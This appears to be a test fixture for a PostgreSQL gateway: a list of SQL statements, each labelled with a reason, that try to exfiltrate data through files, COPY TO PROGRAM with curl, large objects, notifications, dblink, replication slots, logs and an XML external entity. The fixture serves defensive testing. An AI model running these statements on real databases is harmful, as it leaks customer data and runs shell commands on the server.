-- Attempts to carry data somewhere else than to the client that asked: files, networks, other sessions, the server's
-- own records.
-- aim: exfiltrate

-- why: a file on the database host
copy (select id, full_name from customers) to '{owned}';

-- why: a file with CSV
copy orders to '{owned}' with (format csv, header true);

-- why: a program that dials out
copy (select full_name from customers) to program 'curl -T - http://127.0.0.1:9/';

-- why: a program behind a shell
copy orders to program 'cat > {owned}';

-- why: a program in write scope
-- as: write
copy orders to program 'cat > {owned}';

-- why: a large object that anybody could fetch
select lo_from_bytea(0, convert_to(string_agg(full_name, ','), 'UTF8')) from customers;

-- why: a large object made and filled
select lo_put(lo_create(0), 0, 'x');

-- why: a large object written out
select lo_export(lo_from_bytea(0, 'x'), '{owned}');

-- why: a large object on the fast path, as libpq writes one
-- fast path: lo_creat(integer)
393216

-- why: a large object exported on the fast path
-- fast path: lo_export(oid, text)
16400 | {owned}

-- why: a large object written on the fast path
-- fast path: lowrite(integer, bytea)
0 | x

-- why: notifications to whoever listens
select pg_notify('c', full_name) from customers limit 5;

-- why: notifications by statement
notify c, 'Jane Doe';

-- why: a notification on the fast path
-- fast path: pg_notify(text, text)
c | Jane Doe

-- why: another server, by dblink
select dblink_connect('host=127.0.0.1 port=9'), dblink_exec('insert into t values (1)');

-- why: another server, by its extension
create extension dblink;

-- why: another server in a foreign table
create foreign table public.away (a text) server away; insert into public.away select full_name from customers;

-- why: another server's mapping
create user mapping for current_user server away options (user 'x', password 'y');

-- why: a subscription pulls, a publication pushes
create publication p for table customers;

-- why: a slot that others read
select pg_create_logical_replication_slot('s', 'test_decoding');

-- why: a slot on the fast path
-- fast path: pg_create_physical_replication_slot(name, boolean, boolean)
s | true | false

-- why: a message in the write-ahead log
select pg_logical_emit_message(false, 'x', full_name) from customers limit 5;

-- why: the server's log
do $$ begin raise log '%', (select full_name from customers limit 1); end $$;

-- why: the log by level
set client_min_messages = debug5; set log_min_messages = debug5; set log_statement = 'all';

-- why: everything that runs, in the log
set log_min_duration_statement = 0;

-- why: plans in the log
load 'auto_explain'; set auto_explain.log_min_duration = 0;

-- why: a comment that everybody reads
comment on column orders.status is 'Jane Doe';

-- why: a table's name
create table public."Jane Doe" ();

-- why: a role's settings that everybody reads
-- only the gateway stops it
alter role current_user set application_name = 'Jane Doe';

-- why: a prepared transaction's name
begin; select 1; prepare transaction 'Jane Doe';

-- why: a snapshot's file
begin isolation level repeatable read; copy (select 1) to '{owned}';

-- why: a file of the server by function
select pg_file_write('{owned}', string_agg(full_name, ','), false) from customers;

-- why: a file of the server, renamed and taken away
select pg_file_rename('x', 'y'), pg_file_unlink('z');

-- why: a backup to a place of one's own
select pg_backup_start('x');

-- why: a backup on the fast path
-- fast path: pg_backup_start(text, boolean)
x | true

-- why: a restore point with words in it
select pg_create_restore_point('Jane Doe');

-- why: a log switched
select pg_switch_wal(), pg_rotate_logfile();

-- why: a COPY that is to come from elsewhere
-- as: write
copy orders from program 'curl http://127.0.0.1:9/';

-- why: XML that fetches what it names
select xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{file}">]><x>&e;</x>'); copy (select 1) to program 'id';

-- why: JSON or XML stylesheets that write files
select xslt_process('<a/>', '<x/>');
